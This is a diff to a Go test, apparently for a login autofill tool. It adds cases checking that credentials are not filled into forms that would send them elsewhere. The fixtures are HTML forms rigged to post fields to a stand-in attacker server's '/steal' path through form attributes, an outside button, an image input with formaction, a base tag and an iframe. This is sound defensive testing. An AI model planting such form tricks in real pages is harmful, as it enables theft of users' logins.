@@ -29,6 +29,11 @@ func TestFillIsRefusedWhereTheLoginDoesNotBelong(t *testing.T) {
 		"/base":   `<base href="` + evil.URL + `/">` + strings.Replace(form, "method=post", `method=post action="steal"`, 1),
 		"/button": strings.Replace(form, "<button>", `<button formaction="`+evil.LocalhostURL()+`/steal" formmethod=post>`,
 			1),
+		"/attribute": strings.ReplaceAll(form, "<input", "<input form=other") +
+			`<form id=other method=post action="` + evil.URL + `/steal"></form>`,
+		"/outside": strings.Replace(form, "method=post", "method=post id=f", 1) +
+			`<button form=f formaction="` + evil.URL + `/steal">Go</button>`,
+		"/image":   strings.Replace(form, "<button>", `<input type=image alt=Go formaction="`+evil.URL+`/steal"><button>`, 1),
 		"/data":    strings.Replace(form, "method=post", `method=post action="data:text/html,x"`, 1),
 		"/broken":  strings.Replace(form, "method=post", `method=post action="http://["`, 1),
 		"/inside":  `<iframe src="` + evil.URL + `/"></iframe>`,
@@ -48,6 +53,9 @@ func TestFillIsRefusedWhereTheLoginDoesNotBelong(t *testing.T) {
 		{s.URL + "/action", evil.URL, "the form sends elsewhere"},
 		{s.URL + "/base", evil.URL, "the form's address is resolved as the browser does"},
 		{s.URL + "/button", evil.LocalhostURL(), "a button sends elsewhere"},
+		{s.URL + "/attribute", evil.URL, "the fields are those of a form that sends elsewhere"},
+		{s.URL + "/outside", evil.URL, "a button outside of the form sends elsewhere"},
+		{s.URL + "/image", evil.URL, "a picture sends elsewhere"},
 		{s.URL + "/data", "without an origin", "the form sends nowhere that is known"},
 		{s.URL + "/broken", "without an origin", "the form's address cannot be read"},
 		{s.URL + "/sandbox", "without an origin", "a sandboxed frame has no origin"},
